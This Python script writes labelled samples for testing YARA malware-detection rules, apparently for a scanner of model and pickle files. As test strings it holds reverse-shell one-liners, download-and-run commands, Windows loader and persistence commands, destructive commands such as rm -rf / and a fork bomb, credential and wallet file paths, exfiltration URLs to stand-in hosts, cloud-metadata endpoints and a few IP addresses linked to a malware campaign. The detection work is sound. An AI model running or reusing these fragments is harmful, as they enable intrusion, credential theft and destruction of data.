#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""samples: for each rule of rules/*.yar what it must match and what it must not.

    samples.py OUT      writes the samples for tests/rules/test_samples.c

Every sample is a fragment of text or a bare header: nothing here runs, no host
name resolves (.invalid, or documentation addresses), no program is whole.

A sample in OUT is a line of tab separated fields, then its bytes, then "\\n":
    rule  yes|no  format  member  0|1 (active)  imports (;)  bytes
"""

import struct
import sys

samples = []


def add(rule, want, data=b"", fmt="pickle", member="", active=1, imports=""):
    if isinstance(data, str):
        data = data.encode()
    samples.append((rule, want, fmt, member, active, imports, data))


def yes(rule, *datas, **facts):
    for data in datas:
        add(rule, "yes", data, **facts)


def no(rule, *datas, **facts):
    for data in datas:
        add(rule, "no", data, **facts)


def inert(rule, data):
    """The same text where nothing could run it."""
    add(rule, "no", data, active=0)


def shell():
    dev = "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1"
    yes("shell.reverse-dev-tcp", dev, "exec 5<>/dev/tcp/a.invalid/$PORT",
        "sh -i < /dev/udp/192.0.2.1/53")
    no("shell.reverse-dev-tcp", "see /dev/tcp in the manual of bash",
       "the file /dev/tcp/ does not exist")
    inert("shell.reverse-dev-tcp", dev)

    nc = "nc -e /bin/sh 192.0.2.1 4444"
    yes("shell.reverse-netcat", nc, "ncat a.invalid 1 -c bash",
        "mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc a.invalid 9 > /tmp/f",
        "socat tcp:a.invalid:1 EXEC:/bin/bash,pty")
    no("shell.reverse-netcat", "nc -l 8080", "the sync -e shell", "nc -v sh")
    inert("shell.reverse-netcat", nc)

    curl = "curl -fsSL https://a.invalid/x | sudo bash"
    yes("shell.download-run", curl, "wget -qO- http://a.invalid/x|sh",
        "bash -c \"$(curl -s http://a.invalid/x)\"", "sh <(wget -qO- a.invalid)",
        "wget http://a.invalid/x -O /tmp/x && chmod +x /tmp/x",
        "curl http://a.invalid/p | python3 -")
    no("shell.download-run", "curl https://a.invalid/model.bin -o model.bin",
       "curl a.invalid | jq .name", "wget a.invalid/x.sha256 | sha256sum")
    inert("shell.download-run", curl)
    add("shell.download-run", "no", curl, fmt="text", member="install.sh")
    add("shell.download-run", "yes", curl, fmt="text", member="code/a.py")

    ps = "powershell -nop -enc " + "QQBB" * 10
    yes("shell.powershell-hidden", ps,
        "powershell.exe -ep bypass -WindowStyle Hidden -file x",
        "IEX (New-Object Net.WebClient).DownloadString('http://a.invalid')",
        "iwr http://a.invalid/x | iex")
    no("shell.powershell-hidden", "powershell is a shell of Windows",
       "powershell -File install.ps1")
    inert("shell.powershell-hidden", ps)

    win = "mshta http://a.invalid/x.hta"
    yes("shell.windows-loader", win,
        "regsvr32 /s /n /u /i:http://a.invalid/x.sct scrobj.dll",
        "certutil -urlcache -f http://a.invalid/x x", "bitsadmin /transfer j",
        "rundll32 javascript:x")
    no("shell.windows-loader", "certutil -hashfile model.bin SHA256",
       "rundll32 shell32.dll,Control_RunDLL")
    inert("shell.windows-loader", win)

    cron = "(crontab -l; echo '* * * * * x') | crontab -"
    yes("shell.persistence", cron, "echo x > /etc/cron.d/x",
        "echo key >> ~/.ssh/authorized_keys", "echo x >> $HOME/.bashrc",
        "cat u > /etc/systemd/system/x.service",
        "reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x",
        "schtasks /create /tn x", "~/Library/LaunchAgents/a.invalid.plist",
        "echo /tmp/x.so > /etc/ld.so.preload")
    no("shell.persistence", "crontab -l", "cat ~/.bashrc",
       "systemctl status x.service", "ls /etc/cron.d/")
    inert("shell.persistence", cron)
    add("shell.persistence", "no", "'/Library/LaunchDaemons/a.plist'",
        fmt="script")
    add("shell.persistence", "yes", cron, fmt="script")

    rm = "rm -rf --no-preserve-root / "
    yes("shell.destroys", rm, "rm -r -f ~/;", "dd if=/dev/zero of=/dev/sda",
        "mkfs.ext4 /dev/nvme0n1", ":(){ :|:& };:")
    no("shell.destroys", "rm -rf /tmp/build", "dd if=a of=b", "rm -f ~/x",
       "mkfs.ext4 image.bin")
    inert("shell.destroys", rm)


def python():
    enc = "exec(__import__('base64').b64decode('ZWNobyBtYXJrZXI='))"
    yes("python.exec-decoded", enc, "eval(codecs.decode('cevag', 'rot13'))",
        "exec(zlib.decompress(b))", "exec(compile(bytes.fromhex('00'), '', 'exec'))",
        "x=__import__('zlib').decompress(b'')\nexec(x)")
    no("python.exec-decoded", "base64.b64decode(image)", "executor.submit(f)",
       "model.eval()", "exec(code)")
    inert("python.exec-decoded", enc)

    rev = ("s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
           "s.connect(('192.0.2.1',4444));os.dup2(s.fileno(),0)")
    yes("python.reverse-shell", rev,
        "s=socket.socket(socket.AF_INET)\ns.connect(('a.invalid',1))\n"
        "import pty; pty.spawn('sh')",
        "socket.socket(socket.AF_INET); s.connect((h,1)); "
        "subprocess.call(['/bin/sh','-i'])")
    no("python.reverse-shell", "s=socket.socket(socket.AF_INET)\ns.connect((h, 1))",
       "pty.spawn('top')")
    inert("python.reverse-shell", rev)

    down = "exec(urllib.request.urlopen('http://a.invalid/x').read())"
    yes("python.download-run", down,
        "urlretrieve('http://a.invalid/x','/tmp/x');os.chmod('/tmp/x',493);"
        "subprocess.Popen('/tmp/x')",
        "r=requests.get('https://a.invalid/x')\nos.chmod(p, 0o755)\nos.system(p)")
    no("python.download-run", "urlopen('http://a.invalid/weights')",
       "requests.get('https://a.invalid')\nsubprocess.run(['ls'])")
    inert("python.download-run", down)

    imp = "__import__('os').system('echo marker')"
    yes("python.import-hidden", imp, "getattr(__import__('subprocess'),'run')",
        "importlib.import_module('os').popen('echo marker')",
        "__builtins__['eval']")
    no("python.import-hidden", "import os", "__import__('numpy')",
       "importlib.import_module('os')")
    inert("python.import-hidden", imp)
    add("python.import-hidden", "no", "os = __import__('os')", fmt="text",
        member="code/a.py")

    esc = "().__class__.__bases__[0].__subclasses__()"
    yes("python.sandbox-escape", esc, "x.__class__.__mro__[1].__subclasses__()",
        "{{ f.__init__.__globals__['x'] }}", "{{ cycler.__init__ }}")
    yes("python.sandbox-escape", "{{ cycler.__init__ }}", fmt="gguf", active=0)
    no("python.sandbox-escape", "self.__class__.__name__", "super().__init__()",
       "{{ namespace.x }}")
    inert("python.sandbox-escape", esc)

    over = "torch.nn.Module.forward = evil"
    yes("python.overwrites-loader", over, "setattr(pickle, 'loads', f)",
        "builtins.open = f")
    no("python.overwrites-loader", "x = torch.load(p)", "torch.load == f",
       "setattr(model, 'forward', f)")
    inert("python.overwrites-loader", over)
    add("python.overwrites-loader", "no", "builtins.open = f", fmt="text", member="a.py")

    nat = "ctypes.windll.kernel32.VirtualAlloc(0, 9, 0x3000, 0x40)"
    yes("python.native-code", nat,
        "m=mmap.mmap(-1, 9, prot=mmap.PROT_EXEC);ctypes.CFUNCTYPE(None)(m)")
    no("python.native-code", "ctypes.CDLL('libgomp.so.1')", "VirtualAlloc",
       "ctypes.c_int")
    inert("python.native-code", nat)


def theft():
    ssh = "open(os.path.expanduser('~/.ssh/id_rsa')).read()"
    yes("theft.credential-files", ssh, "/root/.aws/credentials",
        "~/.config/gcloud/application_default_credentials.json",
        "~/.azure/accessTokens.json", "~/.kube/config", "/root/.docker/config.json",
        "cat ~/.netrc", "~/.git-credentials", "/home/u/.cache/huggingface/token",
        "/etc/shadow", "~/.gnupg/private-keys-v1.d", "/root/.pypirc",
        "/proc/self/environ")
    no("theft.credential-files", "~/.ssh/known_hosts", "/etc/passwd",
       "~/.cache/huggingface/hub", "id_rsa", "/proc/self/maps", "~/.aws/config")
    inert("theft.credential-files", ssh)
    add("theft.credential-files", "no", "~/.pypirc", fmt="text", member="a.py")
    add("theft.credential-files", "yes", ssh + " ~/.pypirc", fmt="text", member="a.py")

    web = "~/.config/google-chrome/Chrome/Default/Login Data"
    yes("theft.browser-data", web, "CryptUnprotectData(",
        "%APPDATA%\\discord\\Local Storage\\leveldb",
        "~/.mozilla/firefox/x.default/logins.json")
    no("theft.browser-data", "logins.json", "Mozilla/Firefox/Profiles",
       "Chrome is a browser", "Web Data Commons")
    inert("theft.browser-data", web)

    wal = "~/.bitcoin/wallet.dat"
    yes("theft.wallets", wal, "~/.electrum/wallets", "Exodus/exodus.wallet",
        "~/.ethereum/keystore", "~/.config/solana/id.json",
        "nkbihfbeogaeaoehlefnkodbefgpgknn", "bfnaelmomeimhlpmgjnjophhpkkoljpa",
        "atomic/Local Storage/leveldb")
    no("theft.wallets", "bitcoin price", "wallet.dat", "electrum", "Exodus")
    inert("theft.wallets", wal)

    drop = "https://discord.com/api/webhooks/123456789/x"
    yes("theft.drop-channel", drop,
        "https://api.telegram.org/bot123456789:" + "A" * 35 + "/sendMessage",
        "https://hooks.slack.com/services/T00000000/B0/x",
        "https://webhook.site/x", "http://abcdefghij.oast.fun",
        "https://abc.ngrok.io", "https://pastebin.com/raw/x")
    no("theft.drop-channel", "https://discord.com/channels/1",
       "https://huggingface.co/x", "https://pastebin.com/",
       "https://api.telegram.org/", "toast.pro is a site")
    inert("theft.drop-channel", drop)

    meta = "http://169.254.169.254/latest/meta-data/iam/"
    yes("theft.cloud-metadata", meta,
        "http://metadata.google.internal/computeMetadata/v1/",
        "http://169.254.170.2$AWS_URI", "http://100.100.100.200/latest/")
    no("theft.cloud-metadata", "169.254.169.254", "169.254.170.20",
       "metadata.google.internal")
    inert("theft.cloud-metadata", meta)
    add("theft.cloud-metadata", "no", meta, fmt="text", member="(unpacked)")

    env = "requests.post('http://a.invalid', json=dict(os.environ))"
    yes("theft.environment-sent", env, "env | curl -d @- http://a.invalid",
        "curl -d \"$(env)\" http://a.invalid",
        "curl -F f=@/etc/passwd http://a.invalid")
    no("theft.environment-sent", "os.environ['HOME']", "env | sort",
       "curl -d x=1 http://a.invalid", "requests.post(url, json=x)")
    inert("theft.environment-sent", env)

    yes("theft.secret-shape", "-----BEGIN OPENSSH PRIVATE KEY-----",
        "AKIA" + "A2" * 8, "ghp_" + "a1" * 18, "hf_" + "ab" * 17,
        "xoxb-1234567890-" + "a" * 20, "sk-" + "a" * 20 + "T3BlbkFJ" + "b" * 20)
    no("theft.secret-shape", "-----BEGIN PUBLIC KEY-----", "AKIA", "hf_model",
       "ghp_", "sk-learn")


def miner():
    pool = "stratum+tcp://a.invalid:3333"
    yes("miner.pool", pool, "gulf.moneroocean.stream:10128",
        '{"id":1,"method":"login","params":{"login":"x"}}')
    no("miner.pool", "stratum+tcp", "a stratum of clay", '{"method":"login"}')
    inert("miner.pool", pool)

    prog = "./xmrig -o a.invalid:3333"
    yes("miner.program", prog, "--donate-level=1", "--algo=rx/0",
        '"randomx": {')
    no("miner.program", "xmrig is a miner", "--algo=adam", "t-rex")
    inert("miner.program", prog)


def elf(machine, bits=2, endian="<"):
    ident = b"\x7fELF" + bytes([bits, 1 if endian == "<" else 2, 1]) + bytes(9)
    if bits == 2:
        return ident + struct.pack(endian + "HHIQQQIHHHHHH", 3, machine, 1, 0, 64,
                                   0, 0, 64, 56, 0, 0, 0, 0)
    return ident + struct.pack(endian + "HHIIIIIHHHHHH", 3, machine, 1, 0, 52, 0, 0,
                               52, 32, 0, 0, 0, 0)


def pe(offset=0x80, magic=0x20B, signature=b"PE\0\0"):
    head = b"MZ" + bytes(58) + struct.pack("<I", offset)
    head = head.ljust(offset, b"\0") + signature + bytes(20)
    return head + struct.pack("<H", magic) + bytes(64)


def binary():
    x86_64, aarch64, i386, s390, cuda = 62, 183, 3, 22, 190
    yes("binary.elf", b"abc" + elf(x86_64), elf(aarch64), elf(i386, bits=1),
        elf(s390, endian=">"))
    no("binary.elf", b"\x7fELF", elf(cuda), b"\x7fELF" + bytes(60))
    yes("binary.pe", b"abc" + bytes(9) + pe(), pe(magic=0x10B))
    no("binary.pe", b"MZ" + bytes(200), pe(signature=b"PX\0\0"), pe(magic=0x999),
       b"MZ" + bytes(58) + struct.pack("<I", 0x7fffffff))
    thin = b"\xcf\xfa\xed\xfe\x07\0\0\x01\x03\0\0\0\x02\0\0\0"
    yes("binary.mach-o", thin, b"\xca\xfe\xba\xbe\0\0\0\x02\x01\0\0\x07")
    no("binary.mach-o", b"\xcf\xfa\xed\xfe", b"\xca\xfe\xba\xbe\0\0\0\x34",
       thin[:12] + b"\x63\0\0\0")
    bang = "#!/bin/sh\necho marker\n"
    yes("binary.script-dropped", bang, "#!/usr/bin/env python3\npass\n")
    no("binary.script-dropped", "#!/bin/sh", "#! is a mark")
    add("binary.script-dropped", "no", bang, fmt="text", member="a.sh")
    inert("binary.script-dropped", bang)


def short(word):
    """a short ASCII name as marshal writes it"""
    return b"\xda" + bytes([len(word)]) + word.encode()


def code(*words):
    """the front of marshalled code, with some of its names"""
    return b"\xe3" + bytes(16) + b"\x40\0\0\0" + b"".join(map(short, words))


def bytecode():
    runs = "bytecode.runs-programs"
    yes(runs, code("os", "system"), code("subprocess", "Popen"),
        code("subprocess", "check_output"), code("os", "popen"))
    no(runs, code("os", "path", "join"), code("system"), b"\x8c\x02os" +
       b"\x8c\x06system", code("subprocess", "PIPE"), "import os; os.system('x')")
    inert(runs, code("os", "system"))
    shells = "bytecode.shell-on-socket"
    yes(shells, code("socket", "connect", "dup2"), code("socket", "connect", "pty"))
    no(shells, code("socket", "connect"), code("connect", "dup2"))
    inert(shells, code("socket", "connect", "dup2"))
    pyc = b"\xa7\x0d\r\n" + bytes(12) + code()
    yes("bytecode.module", b"abc" + pyc, b"\xcb\x0d\r\n" + bytes(12) + code())
    no("bytecode.module", pyc[:4] + bytes(40), b"\xa7\x0d\r\n\x09" + pyc[5:], code())
    add("bytecode.module", "no", pyc, fmt="text", member="a.pyc")
    inert("bytecode.module", pyc)


def campaign():
    home = "connect(('107.173.7.141', 4243))"
    yes("campaign.model-shells", home, "210.117.212.93", "136.243.156.120")
    no("campaign.model-shells", "107.173.7.14", "210.117.212.9", "192.0.2.1")
    inert("campaign.model-shells", home)
    onion = "a2" * 28 + ".onion"
    note = "All your files have been encrypted! Pay 1 BTC to recover the key"
    yes("campaign.ransom-note", note, "your data are encrypted, see " + onion)
    no("campaign.ransom-note", "your files have been encrypted",
       "your files are encrypted at rest with a bitcoin of effort", "pay BTC")
    inert("campaign.ransom-note", note)
    yes("campaign.hidden-service", "http://" + onion + "/x")
    no("campaign.hidden-service", "an.onion", "a2" * 8 + ".onion", "x" + onion)
    inert("campaign.hidden-service", "http://" + onion)
    spy = "pynput.keyboard.Listener(f)\nrequests.post(u, x)"
    yes("campaign.spies", spy, "x = ImageGrab.grab()\ns.sendall(x) requests.post(x)")
    no("campaign.spies", "pynput.keyboard", "requests.post(u)", "ImageGrab.grab()")
    inert("campaign.spies", spy)


def hidden():
    run = "echo ZWNobyBtYXJrZXI= | base64 -d | bash"
    yes("shell.encoded-run", run, "base64 --decode x | python3 -",
        "xxd -r -p x | sh", "eval $(echo x | base64 -d)", "openssl base64 -d <x | sh")
    no("shell.encoded-run", "base64 -d x > y", "base64 x | sha256sum", "xxd -r x")
    inert("shell.encoded-run", run)
    spell = "exec(''.join(map(chr, [112, 114])))"
    yes("python.obfuscated", spell, "eval(chr(112)+chr(114))",
        "getattr(__builtins__, '\\x65\\x76\\x61\\x6c')", "__builtins__['\\x65\\x76']",
        "exec(')rekram(tnirp'[::-1])", "exec(''.join([chr(x) for x in y]))")
    no("python.obfuscated", "''.join(map(chr, x))", "chr(112)+chr(114)",
       "getattr(builtins, 'len')", "exec(code)", "'abc'[::-1]")
    inert("python.obfuscated", spell)
    stay = "open('/usr/lib/python3/sitecustomize.py','a').write(x)"
    yes("python.persistence", stay, "open(p+'/site-packages/x.pth', 'w')",
        "open(os.path.expanduser('~/.bashrc'), 'a')",
        "open('/root/.ssh/authorized_keys','a')", "open('/etc/cron.d/x', 'w')")
    no("python.persistence", "open('sitecustomize.py')", "open('~/.bashrc','r')",
       "open('x.pth', 'wb')")
    add("python.persistence", "no", "open(join(d, 'sitecustomize.py'), 'w')",
        fmt="script")
    add("python.persistence", "yes", "open('/root/.bashrc', 'a')", fmt="script")
    inert("python.persistence", stay)


def imports():
    def pair(rule, want, *names, **facts):
        add(rule, want, imports=";".join(names), **facts)

    pair("imports.network-and-process", "yes", "socket.socket", "os.system")
    pair("imports.network-and-process", "yes", "subprocess.Popen",
         "requests.get")
    pair("imports.network-and-process", "no", "socket.socket")
    pair("imports.network-and-process", "no", "mysocket.x", "os.system")
    pair("imports.network-and-process", "no", "socket.socket", "os.path.join")
    pair("imports.decode-and-run", "yes", "base64.b64decode", "builtins.exec")
    pair("imports.decode-and-run", "no", "_codecs.encode", "builtins.set")
    pair("imports.decode-and-run", "no", "builtins.executor", "base64.b64decode")
    pair("imports.download-and-write", "yes", "urllib.request.urlopen",
         "builtins.open")
    pair("imports.download-and-write", "no", "urllib.request.urlopen")
    pair("imports.download-and-write", "no", "requests.models.Response",
         "builtins.open")
    pair("imports.native-code", "yes", "ctypes.CDLL")
    pair("imports.native-code", "no", "ctypes.c_int")
    pair("imports.native-code", "no", "ctypes.CDLL", active=0)
    pair("imports.attribute-ladder", "yes", "builtins.getattr",
         "builtins.globals")
    pair("imports.attribute-ladder", "no", "builtins.getattr")
    pair("imports.attribute-ladder", "no", "builtins.getattr",
         "functools.partial")
    pair("imports.attribute-ladder", "no", "builtins.getattrs",
         "builtins.globals")
    pair("imports.switches-guard-off", "yes", "picklescan.scanner.scan_file")
    pair("imports.switches-guard-off", "yes",
         "keras.config.enable_unsafe_deserialization")
    pair("imports.switches-guard-off", "yes",
         "torch.serialization.add_safe_globals")
    pair("imports.switches-guard-off", "no", "keras.layers.Dense")


def main():
    for part in (shell, python, theft, miner, binary, bytecode, campaign, hidden,
                 imports):
        part()
    with open(sys.argv[1], "wb") as out:
        for rule, want, fmt, member, active, names, data in samples:
            head = [rule, want, fmt, member, str(active), names, str(len(data))]
            out.write("\t".join(head).encode() + b"\n" + data + b"\n")


if __name__ == "__main__":
    main()
